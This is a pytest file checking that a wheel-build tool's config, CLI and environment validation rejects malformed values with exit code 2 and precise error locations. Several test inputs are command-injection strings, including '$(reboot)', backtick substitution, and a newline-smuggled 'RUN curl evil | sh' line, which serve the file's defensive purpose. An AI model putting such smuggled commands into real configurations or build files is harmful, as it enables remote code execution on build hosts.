"""Bad configurations: each is rejected with exit code 2, a message naming the file, the
line, the key and what was expected, and nothing written."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from helpers.builder_testlib import BASE_CONFIG, SUPPORT, run_cli, write_config, write_pem

S = str(SUPPORT)
BASE = BASE_CONFIG


def _replace(old: str, new: str) -> str:
    assert old in BASE
    return BASE.replace(old, new)


# (case id, config text, line, key, expected fragment of the message)
CASES = [
    (
        "unknown-top-key",
        BASE + "colour: red\n",
        6,
        "colour",
        "unknown key 'colour'; expected one of: before-all, before-build, build, build-frontend, "
        "ca_bundle, config-settings, cuda, environment, environment-pass, images, matrix",
    ),
    (
        "unknown-matrix-key",
        BASE + "  pythons: ['3.12']\n",
        6,
        "matrix.pythons",
        "unknown key 'pythons'; expected one of: arch, cuda, exclude, include, python, torch",
    ),
    (
        "unknown-image-key",
        BASE + "images:\n  X86:\n    bse: foo/bar\n",
        8,
        "images.X86.bse",
        "unknown key 'bse'; expected one of: base, family, plat, python_path",
    ),
    (
        "unknown-arch-image",
        BASE + "images:\n  RISCV:\n    base: foo/bar\n",
        7,
        "images.RISCV",
        "unknown key 'RISCV'; expected one of: ARM, X86",
    ),
    (
        "arch-not-a-list",
        _replace("arch: [X86, ARM]", "arch: X86"),
        3,
        "matrix.arch",
        "expected a list, got string 'X86'",
    ),
    (
        "python-unquoted",
        _replace('python: ["3.9", "3.11"]', 'python: ["3.9", 3.10]'),
        4,
        "matrix.python[1]",
        "expected a string, got number 3.1 (quote versions",
    ),
    (
        "python-3.9.x",
        _replace('"3.9", "3.11"', '"3.9.x", "3.11"'),
        4,
        "matrix.python[0]",
        "'3.9.x' is not a Python version; expected major.minor like \"3.11\"",
    ),
    (
        "torch-2.13",
        _replace('"2.8.0", "2.13.0"', '"2.8.0", "2.13"'),
        5,
        "matrix.torch[1]",
        "'2.13' is not a torch release; "
        'expected major.minor.patch like "2.13.0" (write "2.13.0")',
    ),
    (
        "torch-local-version",
        _replace('"2.13.0"]', '"2.13.0+cpu"]'),
        5,
        "matrix.torch[1]",
        "expected major.minor.patch",
    ),
    (
        "torch-unquoted",
        _replace('torch: ["2.8.0", "2.13.0"]', "torch: [2.13]"),
        5,
        "matrix.torch[0]",
        "expected a string, got number 2.13",
    ),
    (
        "unknown-arch",
        _replace("arch: [X86, ARM]", "arch: [X86, X64]"),
        3,
        "matrix.arch[1]",
        "unknown arch 'X64'; expected one of X86, ARM",
    ),
    (
        "empty-python",
        _replace('python: ["3.9", "3.11"]', "python: []"),
        4,
        "matrix.python",
        "empty list; expected at least one Python version",
    ),
    (
        "duplicate-python",
        _replace('"3.9", "3.11"', '"3.9", "3.9"'),
        4,
        "matrix.python",
        "has duplicate items; expected each value once",
    ),
    (
        "missing-matrix",
        f"support: {S}\n",
        1,
        None,
        "missing required key 'matrix'; expected all of: matrix",
    ),
    (
        "missing-torch",
        _replace('  torch: ["2.8.0", "2.13.0"]\n', ""),
        2,
        "matrix",
        "missing required key 'torch'",
    ),
    (
        "torch-not-in-support",
        _replace('"2.8.0", "2.13.0"', '"2.8.0", "2.7.0"'),
        5,
        "matrix.torch[1]",
        "torch 2.7.0 is not in the support table configs/support.yaml; expected one of",
    ),
    (
        "include-unsupported",
        BASE + "  include:\n    - {arch: ARM, python: '3.9', torch: '2.13.0'}\n",
        7,
        "matrix.include[0]",
        "includes cp39-manylinux_aarch64-torch2.13.0, which cannot be built: "
        "torch 2.13.0 publishes no cp39 wheel for aarch64",
    ),
    (
        "include-missing-torch",
        BASE + "  include:\n    - {arch: ARM, python: '3.11'}\n",
        7,
        "matrix.include[0]",
        "missing required key 'torch'",
    ),
    (
        "exclude-empty-rule",
        BASE + "  exclude:\n    - {}\n",
        7,
        "matrix.exclude[0]",
        "an empty rule; expected at least one of arch, python, torch",
    ),
    (
        "exclude-typo",
        BASE + "  exclude:\n    - {pyhton: '3.9'}\n",
        7,
        "matrix.exclude[0].pyhton",
        "unknown key 'pyhton'; expected one of: arch, cuda, python, torch",
    ),
    (
        "exclude-bad-version",
        BASE + "  exclude:\n    - python: '3.x'\n",
        7,
        "matrix.exclude[0].python",
        "'3.x' is not a Python version",
    ),
    (
        "duplicate-key",
        BASE + "matrix:\n  arch: [X86]\n",
        6,
        "matrix",
        "duplicate key 'matrix' (first defined on line 2); expected each key once",
    ),
    (
        "yaml-syntax",
        _replace('python: ["3.9", "3.11"]', 'python: ["3.9", "3.11"'),
        5,
        None,
        "invalid YAML",
    ),
    (
        "image-injection",
        BASE + "images:\n  X86:\n    base: 'foo$(reboot)'\n",
        8,
        "images.X86.base",
        "'foo$(reboot)' is not an image reference; expected [registry/]name",
    ),
    (
        "image-newline",
        BASE + 'images:\n  X86:\n    base: "foo\\nRUN curl evil | sh"\n',
        8,
        "images.X86.base",
        "is not an image reference",
    ),
    (
        "plat-wrong-arch",
        BASE + "images:\n  ARM:\n    plat: manylinux_2_28_x86_64\n",
        8,
        "images.ARM.plat",
        "does not match the arch; expected a tag ending in _aarch64",
    ),
    (
        "family-unknown",
        BASE + "images:\n  X86:\n    family: centos\n",
        8,
        "images.X86.family",
        "expected one of manylinux, debian, got 'centos'",
    ),
    (
        "python-path-backticks",
        BASE + "images:\n  X86:\n    python_path: '/opt/`id`/python'\n",
        8,
        "images.X86.python_path",
        "is not an absolute path",
    ),
    (
        "python-path-placeholder",
        BASE + "images:\n  X86:\n    python_path: '/opt/{py}/python'\n",
        8,
        "images.X86.python_path",
        "the only placeholders allowed are {cp} and {version}",
    ),
    (
        "jobs-zero",
        BASE + "build:\n  jobs: 0\n",
        7,
        "build.jobs",
        "expected a positive integer or null, got integer 0",
    ),
    (
        "jobs-string",
        BASE + "build:\n  jobs: 'four'\n",
        7,
        "build.jobs",
        "expected a positive integer or null, got string 'four'",
    ),
    (
        "cflags-native",
        BASE + "build:\n  extra_cflags: ['-march=native']\n",
        7,
        "build.extra_cflags[0]",
        "makes the wheel unportable; expected portable flags only",
    ),
    (
        "cflags-two-in-one",
        BASE + "build:\n  extra_cflags: ['-O2 -g']\n",
        7,
        "build.extra_cflags[0]",
        "is not a single compiler flag; expected one '-flag' per list item",
    ),
    (
        "auditwheel-exclude-quote",
        BASE + "build:\n  auditwheel_exclude: ['lib\"x.so']\n",
        7,
        "build.auditwheel_exclude[0]",
        "is not a library name or wildcard",
    ),
    (
        "index-url-credentials",
        BASE + "pip:\n  index_url: https://u:pw@idx.example/simple\n",
        7,
        "pip.index_url",
        "index URL contains credentials, which would be written into the image",
    ),
    (
        "index-url-quote",
        BASE + "pip:\n  index_url: 'https://idx.example/simple\"; RUN evil'\n",
        7,
        "pip.index_url",
        "contains characters not allowed in a URL here",
    ),
    (
        "proxy-scheme",
        BASE + "proxy:\n  http_proxy: ftp://proxy.example:21\n",
        7,
        "proxy.http_proxy",
        "proxy URL has no supported scheme; expected http://",
    ),
    (
        "no-proxy-newline",
        BASE + 'proxy:\n  no_proxy: "localhost\\nRUN x"\n',
        7,
        "proxy.no_proxy",
        "expected e.g. localhost,127.0.0.1,.internal",
    ),
    (
        "offline-not-bool",
        BASE + "offline:\n  enabled: 'sometimes'\n",
        7,
        "offline.enabled",
        "expected true or false, got string 'sometimes'",
    ),
    (
        "ca-missing",
        BASE + "ca_bundle: no-such-ca.pem\n",
        6,
        "ca_bundle",
        "does not exist; expected a PEM file",
    ),
    ("top-level-list", "- matrix\n", 1, None, "expected a mapping at the top level, got list"),
    (
        "support-missing",
        _replace(f"support: {S}", "support: nowhere.yaml"),
        1,
        "support",
        "support table 'nowhere.yaml' not found",
    ),
]


@pytest.mark.parametrize("case", CASES, ids=[c[0] for c in CASES])
def test_bad_config_is_rejected_with_location(tmp_path: Path, case) -> None:
    _id, text, line, key, fragment = case
    cfg = write_config(tmp_path, text)
    out = tmp_path / "out"
    res = run_cli("render", "--config", str(cfg), "--out", str(out))
    assert res.rc == 2, res.err
    where = f"{cfg}:{line}: " + (f"{key}: " if key else "")
    assert where in res.err, res.err
    assert fragment in res.err, res.err
    assert "expected" in res.err or "invalid YAML" in res.err
    assert "Traceback" not in res.err
    assert not out.exists(), "nothing may be written on a configuration error"


def test_at_least_25_cases() -> None:
    assert len(CASES) >= 25


def test_empty_file(tmp_path: Path) -> None:
    cfg = write_config(tmp_path, "")
    res = run_cli("plan", "--config", str(cfg))
    assert res.rc == 2
    assert f"{cfg}: the file is empty; expected a mapping with at least 'matrix'" in res.err


def test_ca_not_pem(tmp_path: Path) -> None:
    (tmp_path / "ca.pem").write_text("not a certificate\n")
    cfg = write_config(tmp_path, BASE + "ca_bundle: ca.pem\n")
    res = run_cli("render", "--config", str(cfg), "--out", str(tmp_path / "out"))
    assert res.rc == 2
    assert f"{cfg}:6: ca_bundle: " in res.err and "holds no certificate" in res.err
    assert not (tmp_path / "out").exists()


def test_all_cells_excluded_is_an_error(tmp_path: Path) -> None:
    cfg = write_config(tmp_path, BASE + "  exclude:\n    - {torch: ['2.8.0', '2.13.0']}\n")
    res = run_cli("plan", "--config", str(cfg))
    assert res.rc == 2
    assert f"{cfg}: matrix: the matrix has no buildable cell" in res.err
    assert "excluded by matrix.exclude[0] (torch=2.8.0,2.13.0)" in res.err


def test_several_errors_are_all_mentioned(tmp_path: Path) -> None:
    cfg = write_config(tmp_path, BASE + "colour: red\nbuild:\n  jobs: -1\n")
    res = run_cli("plan", "--config", str(cfg))
    assert res.rc == 2
    assert f"{cfg}:6: colour: unknown key 'colour'" in res.err
    assert "and 1 more: line 8: build.jobs: expected a positive integer or null" in res.err


# Command line and environment: same exit code, the option or variable is named.
CLI_CASES = [
    (
        "env-py-bad",
        [],
        {"BUILDER_PYTHON": "3.9.x"},
        "environment BUILDER_PYTHON: '3.9.x' is not a Python version",
    ),
    (
        "env-torch-bad",
        [],
        {"BUILDER_TORCH": "2.13"},
        "environment BUILDER_TORCH: '2.13' is not a torch release",
    ),
    (
        "env-backend-bad",
        [],
        {"BUILDER_BACKEND": "podman"},
        "environment BUILDER_BACKEND: unknown backend 'podman'; expected one of auto, docker, "
        "host, cross, emulated",
    ),
    (
        "env-base-image-bad",
        [],
        {"BUILDER_BASE_IMAGE": "bad image"},
        "environment BUILDER_BASE_IMAGE: ",
    ),
    (
        "cli-arch-bad",
        ["--arch", "mips"],
        {},
        "command line --arch: unknown arch 'mips'; expected one of X86, ARM",
    ),
    (
        # A Python the support table knows widens the matrix (a note); one it does not is an error.
        "cli-python-absent",
        ["--python", "3.16"],
        {},
        "command line --python: python 3.16 is not in the matrix; expected one of 3.9, 3.10, 3.11",
    ),
    (
        # Outside the project's requires-python: why, and the oldest supported combination.
        "cli-python-unsupported",
        ["--python", "3.7"],
        {},
        "command line --python: Python 3.7 is not supported: ampforge requires-python >=3.8 "
        "(pyproject.toml); end of life since 2023-06-27",
    ),
    (
        "selector-nothing",
        ["cp27-*"],
        {},
        "selector: selector 'cp27-*' matches no cell; expected a pattern on identifiers like",
    ),
    (
        "explicit-unsupported",
        ["--arch", "ARM", "--python", "3.9", "--torch", "2.13.0"],
        {},
        "has no buildable cell: cp39-manylinux_aarch64-torch2.13.0: torch 2.13.0 publishes no cp39 "
        "wheel for aarch64 (it has cp310-cp314",
    ),
    ("cli-jobs-zero", ["--jobs", "0"], {}, "--jobs: expected a positive integer, got '0'"),
    (
        "env-jobs-bad",
        [],
        {"BUILDER_JOBS": "many"},
        "environment BUILDER_JOBS: expected a positive integer",
    ),
    (
        "env-offline-bad",
        [],
        {"BUILDER_OFFLINE": "maybe"},
        "environment BUILDER_OFFLINE: expected 1/0, true/false or yes/no, got 'maybe'",
    ),
    (
        "env-ca-missing",
        [],
        {"BUILDER_CA_BUNDLE": "/nonexistent/ca.pem"},
        "environment BUILDER_CA_BUNDLE: CA bundle '/nonexistent/ca.pem' does not exist",
    ),
    (
        "config-missing",
        ["--config", "/nonexistent/m.yaml"],
        {},
        "command line --config: /nonexistent/m.yaml does not exist; expected an existing file",
    ),
]


def test_foreign_plain_variables_do_not_steer_the_builder() -> None:
    """A shell whose ARCH means something else (conda-forge sets ARCH=64), or that has PY,
    TORCH, BACKEND, JOBS or OFFLINE for its own reasons: the builder reads only BUILDER_*."""
    env = {
        "ARCH": "64",
        "PY": "python3",
        "TORCH": "cpu",
        "BACKEND": "podman",
        "JOBS": "many",
        "OFFLINE": "maybe",
        "BASE_IMAGE": "bad image",
        "BUNDLE": "/nonexistent",
    }
    res = run_cli("plan", "--format", "json", env=env)
    assert res.rc == 0, res.err
    assert len(json.loads(res.out)["cells"]) == 26


@pytest.mark.parametrize("case", CLI_CASES, ids=[c[0] for c in CLI_CASES])
def test_bad_cli_or_env(tmp_path: Path, case) -> None:
    _id, argv, env, fragment = case
    out = tmp_path / "out"
    res = run_cli("render", "--out", str(out), *argv, env=env)
    assert res.rc == 2, res.err
    assert fragment in res.err, res.err
    assert not out.exists()


def test_usage_error_exits_2() -> None:
    res = run_cli("plan", "--format", "xml")
    assert res.rc == 2
    assert "invalid choice: 'xml'" in res.err


def test_exclude_matching_nothing_is_a_warning(tmp_path: Path) -> None:
    cfg = write_config(tmp_path, BASE + "  exclude:\n    - {python: '3.12'}\n")
    res = run_cli("plan", "--config", str(cfg))
    assert res.rc == 0
    assert (
        f"warning: {cfg}:7: matrix.exclude[0]: matrix.exclude[0] (python=3.12) matches no cell"
        in res.err
    )


def test_ca_bundle_relative_to_config_file(tmp_path: Path) -> None:
    write_pem(tmp_path / "corp.pem")
    cfg = write_config(tmp_path, BASE + "ca_bundle: corp.pem\n")
    res = run_cli("plan", "--config", str(cfg))
    assert res.rc == 0, res.err
    assert f"CA:      {tmp_path / 'corp.pem'} (config file {cfg})" in res.out
